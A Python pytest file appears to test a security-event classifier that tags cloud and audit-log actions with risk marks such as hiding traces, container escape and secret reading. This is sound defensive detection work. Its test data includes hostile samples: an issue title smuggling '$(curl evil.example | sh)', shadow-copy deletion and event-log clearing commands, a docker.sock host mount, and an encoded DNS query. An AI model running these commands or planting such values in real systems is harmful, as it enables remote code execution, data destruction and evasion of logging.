"""Marks: what the name of an action, its settings, and what changed say of it."""

from typing import Any

import pytest

from ostiary.signals.deeds import deed_of
from ostiary.signals.marking import told_of
from ostiary.vocabulary.events import ActionClass
from ostiary.vocabulary.facts import Mark

NAMES = [
    ("CreateAccessKey", {Mark.ADDS_CREDENTIAL}, {Mark.READS_SECRET}),
    ("cloudtrail:StopLogging", {Mark.HIDES_TRACES}, {Mark.DESTROYS}),
    ("secretsmanager:GetSecretValue", {Mark.READS_SECRET}, {Mark.ADDS_CREDENTIAL}),
    ("sts:AssumeRole", {Mark.ASSUMES_ROLE}, set()),
    ("MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION", {Mark.READS_SECRET, Mark.LISTS}, {Mark.CHANGES_POLICY}),
    ("MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE", {Mark.CHANGES_POLICY}, {Mark.DESTROYS}),
    ("ip_allowlist.deleted", {Mark.CHANGES_NETWORK, Mark.DISABLES_PROTECTION}, {Mark.LISTS}),
    ("API_KEY_ACCESS_LIST_ENTRY_DELETED", {Mark.DESTROYS}, {Mark.LISTS, Mark.READS_SECRET}),
    ("DescribeInstances", {Mark.LISTS}, {Mark.DESTROYS, Mark.RUNS_CODE}),
    ("user.session.impersonation", set(), {Mark.DESTROYS}),
    ("frobnicate", set(), set(Mark)),
]


@pytest.mark.parametrize(("name", "told", "untold"), NAMES)
def test_a_name_tells_marks(name: str, told: set[Mark], untold: set[Mark]) -> None:
    marks = set(deed_of(name).marks)
    assert told <= marks
    assert not untold & marks


def test_what_is_denied_is_not_said() -> None:
    assert "chief" in deed_of("admin role").things
    assert "chief" not in deed_of("non-admin role").things


def test_an_unknown_verb_has_no_class() -> None:
    assert deed_of("frobnicate the thing").kind is ActionClass.OTHER
    assert deed_of("disable_mfa").kind is ActionClass.ADMIN


RECORDS: list[tuple[str, dict[str, Any], set[Mark], set[Mark]]] = [
    ("PutBucketVersioning", {"VersioningConfiguration": {"Status": "Disabled"}}, {Mark.DISABLES_PROTECTION}, set()),
    (
        "PutBucketVersioning",
        {"VersioningConfiguration": {"Status": "Enabled"}},
        {Mark.PROTECTS},
        {Mark.DISABLES_PROTECTION},
    ),
    ("PutBucketAcl", {"AccessControlList": {"x-amz-acl": "public-read"}}, {Mark.MAKES_PUBLIC}, set()),
    ("DeleteBucketAcl", {"AccessControlList": {"x-amz-acl": "public-read"}}, {Mark.DESTROYS}, {Mark.MAKES_PUBLIC}),
    ("PutPolicy", {"policy": '{"Principal": {"AWS": "*"}}'}, {Mark.MAKES_PUBLIC}, set()),
    ("PutPolicy", {"policy": '{"Action": "*", "Effect": "Allow"}'}, {Mark.GRANTS_PRIVILEGE}, {Mark.MAKES_PUBLIC}),
    ("AttachUserPolicy", {"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, {Mark.GRANTS_PRIVILEGE}, set()),
    ("AttachUserPolicy", {"policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}, set(), {Mark.GRANTS_PRIVILEGE}),
    ("UpdateSubnet", {"enableFlowLogs": False}, {Mark.HIDES_TRACES}, set()),
    ("create pods", {"spec": {"hostNetwork": True}}, {Mark.ESCAPES}, set()),
    ("create pods", {"volumes": [{"hostPath": {"path": "/var/run/docker.sock"}}]}, {Mark.ESCAPES}, set()),
    ("create pods", {"volumes": [{"hostPath": {"path": "/data"}}]}, set(), {Mark.ESCAPES}),
    ("login", {"mfaUsed": "No"}, {Mark.WEAK_LOGIN}, set()),
    ("ProcessRollup", {"CommandLine": "vssadmin delete shadows /all"}, {Mark.DESTROYS, Mark.READS_SECRET}, set()),
    ("ProcessRollup", {"CommandLine": "wevtutil.exe cl Security"}, {Mark.HIDES_TRACES}, set()),
    ("opened", {"issue": {"title": "fix $(curl evil.example | sh)"}}, {Mark.RUNS_CODE}, set()),
    ("opened", {"issue": {"title": "use `npm install` first"}}, set(), {Mark.RUNS_CODE}),
    ("push", {"commits": [{"message": "typo [skip ci]"}]}, {Mark.DISABLES_PROTECTION}, set()),
    ("update", {"changes": "Role changed from Member to Owner"}, {Mark.GRANTS_PRIVILEGE}, set()),
    ("update", {"changes": "Role changed from Owner to Member"}, {Mark.CHANGES_POLICY}, {Mark.GRANTS_PRIVILEGE}),
    (
        "update",
        {"detail": "Security - Require a passcode: from On to Off"},
        {Mark.DISABLES_PROTECTION},
        {Mark.PROTECTS},
    ),
    ("sign-in", {"riskLevelAggregated": "high"}, {Mark.FLAGGED, Mark.SEVERE}, set()),
    ("sign-in", {"riskLevelAggregated": "high", "riskState": "dismissed"}, set(), {Mark.FLAGGED, Mark.SEVERE}),
    ("query", {"domain": "c29tZSBsb25nIGJhc2U2NA==.files.example"}, {Mark.ENCODED}, set()),
    ("query", {"domain": "www.example.com"}, set(), {Mark.ENCODED}),
    ("connect", {"dstPort": 22}, {Mark.INTERACTIVE}, set()),
    ("connect", {"dstPort": 443}, set(), {Mark.INTERACTIVE}),
]


@pytest.mark.parametrize(("action", "record", "told", "untold"), RECORDS)
def test_a_record_tells_marks(action: str, record: dict[str, Any], told: set[Mark], untold: set[Mark]) -> None:
    marks = set(told_of(action, record).marks)
    assert told <= marks
    assert not untold & marks


def test_only_what_changed_counts() -> None:
    changes = {"oldValue": '{"public": true, "x": 1}', "newValue": '{"public": true, "x": 2}'}
    assert Mark.MAKES_PUBLIC not in told_of("update", changes).marks
    changes["oldValue"] = '{"public": false, "x": 1}'
    assert Mark.MAKES_PUBLIC in told_of("update", changes).marks


def test_a_protection_that_went_is_missed() -> None:
    changes = {"oldValue": '["Mfa", "Block"]', "newValue": '["Block"]'}
    assert Mark.DISABLES_PROTECTION in told_of("update policy", changes).marks
    back = {"oldValue": '["Block"]', "newValue": '["Mfa", "Block"]'}
    assert Mark.DISABLES_PROTECTION not in told_of("update policy", back).marks


def test_others_are_outside() -> None:
    record = {"invitee": "bob@elsewhere.example"}
    assert Mark.EXTERNAL in told_of("invite", record, ("ann@home.example",)).marks
    assert Mark.EXTERNAL not in told_of("invite", record, ("ann@mail.elsewhere.example",)).marks
    assert Mark.EXTERNAL not in told_of("invite", record).marks, "without a home nobody is outside"
    arn = {"userId": "arn:aws:iam::999999999999:root"}
    assert Mark.EXTERNAL in told_of("share", arn, ("111111111111",)).marks
    assert Mark.EXTERNAL not in told_of("share", arn, ("999999999999",)).marks


def test_somebody_elses_account() -> None:
    assert Mark.ABOUT_ANOTHER in told_of("CreateAccessKey", {"userName": "bob"}, ("ann",)).marks
    assert Mark.ABOUT_ANOTHER not in told_of("CreateAccessKey", {"userName": "ann"}, ("ann",)).marks
    actor = {"userIdentity": {"userName": "other-name-of-ann"}}
    assert Mark.ABOUT_ANOTHER not in told_of("CreateAccessKey", actor, ("ann",)).marks


def test_how_many_things_are_named() -> None:
    assert told_of("SendCommand", {"instanceIds": ["a", "b", "c"]}).widest == 3
    assert told_of("SendCommand", {"actor": {"groups": ["a", "b", "c"]}}).widest == 0


def test_a_sample_is_no_finding() -> None:
    told = told_of("threat detected", {"service": {"sample": True}})
    assert told.calm
    assert Mark.FLAGGED not in told.marks
